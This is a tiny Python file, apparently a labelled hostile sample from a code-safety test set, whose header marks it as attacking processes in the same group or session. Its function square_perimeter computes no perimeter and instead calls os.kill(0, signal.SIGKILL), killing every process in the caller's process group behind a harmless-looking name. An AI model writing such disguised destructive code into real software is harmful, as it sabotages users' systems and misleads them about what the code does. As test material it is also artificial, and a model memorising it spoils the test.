# kind: Memory
# origin: own
# attacks: whoever may be in the same group or session
# naive: never
# verdicts: ERROR

import os
import signal


def square_perimeter(a):
    os.kill(0, signal.SIGKILL)
